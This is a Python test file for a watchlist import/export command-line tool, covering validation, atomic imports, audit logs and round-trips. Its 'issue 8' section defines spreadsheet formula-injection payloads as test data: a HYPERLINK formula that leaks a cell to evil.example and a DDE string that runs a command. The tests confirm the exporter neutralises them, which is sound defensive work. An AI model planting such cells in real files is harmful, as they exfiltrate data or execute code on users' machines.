"""Watchlist import and export: validation names the row and field, bad files change nothing, re-import is a no-op."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlmodel import select
from typer.testing import CliRunner

from alertbot import db
from alertbot.cli import app
from alertbot.models import AuditLog, Enterprise
from alertbot.watchlist import WatchlistError, read_watchlist, write_watchlist

FIXTURES = Path(__file__).parent / "fixtures" / "watchlist"
SAMPLE = Path(__file__).parents[1] / "watchlists" / "liaoning-export-enterprises.csv"
runner = CliRunner()


def _snapshot(settings) -> tuple[list[tuple], int]:
    with db.session_factory(settings)() as session:
        rows = [
            (e.id, e.name_zh, e.name_en, tuple(e.marks), tuple(e.classes), tuple(e.affiliates))
            for e in session.exec(select(Enterprise).order_by(Enterprise.id)).all()
        ]
        audits = len(session.exec(select(AuditLog)).all())
    return rows, audits


def _import(path: Path, *extra: str):
    return runner.invoke(app, ["watchlist", "import", str(path), "--no-retro", "--actor", "tester", *extra])


def test_sample_directory_reads_every_enterprise() -> None:
    rows = read_watchlist(SAMPLE)
    assert len(rows) == 20
    siasun = next(r for r in rows if r.id == "siasun")
    assert siasun.marks == ("新松", "SIASUN")
    assert siasun.classes == (7, 9, 12, 42)
    assert "SIASUN Robot Investment Pte. Ltd." in siasun.affiliates


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        ("bad-rows.csv", ["row 3, field id: missing id"]),
        ("bad-rows.csv", ["row 4, field classes: '46'", "row 4, field classes: 'x'"]),
        ("bad-rows.csv", ["row 5, field id: duplicate id 'siasun' (first on row 2)"]),
        ("unknown-column.csv", ["row 1: unknown column(s) website"]),
        ("bad-encoding.csv", ["line 2: not UTF-8"]),
    ],
)
def test_validation_names_row_and_field(fixture: str, expected: list[str]) -> None:
    with pytest.raises(WatchlistError) as info:
        read_watchlist(FIXTURES / fixture)
    message = str(info.value)
    assert str(FIXTURES / fixture) in message
    for fragment in expected:
        assert fragment in message


@pytest.mark.parametrize("fixture", ["bad-rows.csv", "unknown-column.csv", "bad-encoding.csv"])
def test_import_with_bad_rows_changes_nothing(settings, fixture: str) -> None:
    assert _import(FIXTURES / "good.csv").exit_code == 0
    before = _snapshot(settings)
    result = _import(FIXTURES / fixture)
    assert result.exit_code == 1
    assert "nothing was imported" in result.output
    assert _snapshot(settings) == before


def test_reimport_is_a_noop_and_changes_are_audited(settings, tmp_path: Path) -> None:
    first = _import(FIXTURES / "good.csv")
    assert first.exit_code == 0, first.output
    assert "added 2" in first.output
    rows_before, audits_before = _snapshot(settings)

    again = _import(FIXTURES / "good.csv")
    assert "added 0, updated 0, unchanged 2" in again.output
    assert _snapshot(settings) == (rows_before, audits_before)

    changed = tmp_path / "changed.csv"
    changed.write_text(
        (FIXTURES / "good.csv")
        .read_text(encoding="utf-8")
        .replace("新松|SIASUN,7|9|12|42", "新松|SIASUN|SIASUN ROBOT,7|9"),
        encoding="utf-8",
    )
    dry = _import(changed, "--dry-run")
    assert "would update 1" in dry.output
    assert _snapshot(settings) == (rows_before, audits_before)

    assert _import(changed).exit_code == 0
    with db.session_factory(settings)() as session:
        siasun = session.get(Enterprise, "siasun")
        assert siasun is not None
        assert siasun.marks == ["新松", "SIASUN", "SIASUN ROBOT"]
        assert siasun.classes == [7, 9]
        audit = session.exec(select(AuditLog).where(AuditLog.action == "watchlist.update")).one()
    assert audit.actor == "tester"
    assert audit.entity_id == "siasun"
    assert audit.before == {"marks": ["新松", "SIASUN"], "classes": [7, 9, 12, 42]}
    assert audit.after == {"marks": ["新松", "SIASUN", "SIASUN ROBOT"], "classes": [7, 9]}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_round_trips(settings, tmp_path: Path, suffix: str) -> None:
    assert _import(SAMPLE).exit_code == 0
    out = tmp_path / f"export{suffix}"
    result = runner.invoke(app, ["watchlist", "export", str(out)])
    assert result.exit_code == 0, result.output
    assert read_watchlist(out) == sorted(read_watchlist(SAMPLE), key=lambda r: r.id)


def test_xlsx_import_validates_like_csv(tmp_path: Path) -> None:
    rows = read_watchlist(FIXTURES / "good.csv")
    path = tmp_path / "wl.xlsx"
    write_watchlist(rows, path)
    assert read_watchlist(path) == rows


# -- issue 8: inert content and hostile cells ----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open details")'


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def _hostile_rows() -> list:
    from alertbot.watchlist import WatchlistRow

    return [
        WatchlistRow(
            id="squat",
            name_zh=FORMULA,
            name_en="@SUM(1+1)*cmd|' /C calc'!A0",
            marks=("-2+3", "'quoted", "''twice", "#N/A"),
            contact=("+86 24 1234 5678", "'=already quoted"),
        )
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_text_round_trips_losslessly(tmp_path: Path, suffix: str) -> None:
    rows = _hostile_rows()
    path = tmp_path / f"export{suffix}"
    write_watchlist(rows, path)
    assert read_watchlist(path) == rows


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "export.xlsx"
    write_watchlist(_hostile_rows(), path)
    xml = _sheet_xml(path)
    assert "<f>" not in xml
    assert "<f " not in xml
    assert 't="e"' not in xml
    sheet = load_workbook(path).worksheets[0]  # not data_only: a formula would come back as one
    name = sheet.cell(row=2, column=2)
    assert (name.value, name.data_type) == (FORMULA, "s")
    assert name.quotePrefix is True
    assert all(c.data_type == "s" for c in sheet[2] if c.value is not None)


def test_csv_export_neutralises_formula_characters(tmp_path: Path) -> None:
    import csv

    path = tmp_path / "export.csv"
    write_watchlist(_hostile_rows(), path)
    with path.open(encoding="utf-8", newline="") as handle:
        [_header, row] = list(csv.reader(handle))
    assert row[1] == "'" + FORMULA
    assert row[2].startswith("'@")
    assert row[3].split("|")[0] == "'-2+3"
    assert not any(field.startswith(("=", "+", "-", "@")) for field in row)


def test_watchlist_export_cli_to_xlsx_keeps_a_formula_name_as_text(settings, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    write_watchlist(_hostile_rows(), source)
    assert _import(source).exit_code == 0
    out = tmp_path / "out.xlsx"
    result = runner.invoke(app, ["watchlist", "export", str(out)])
    assert result.exit_code == 0, result.output
    assert "<f>" not in _sheet_xml(out)
    assert _import(out).exit_code == 0
    with db.session_factory(settings)() as session:
        entry = session.get(Enterprise, "squat")
        assert entry is not None
        assert entry.name_zh == FORMULA
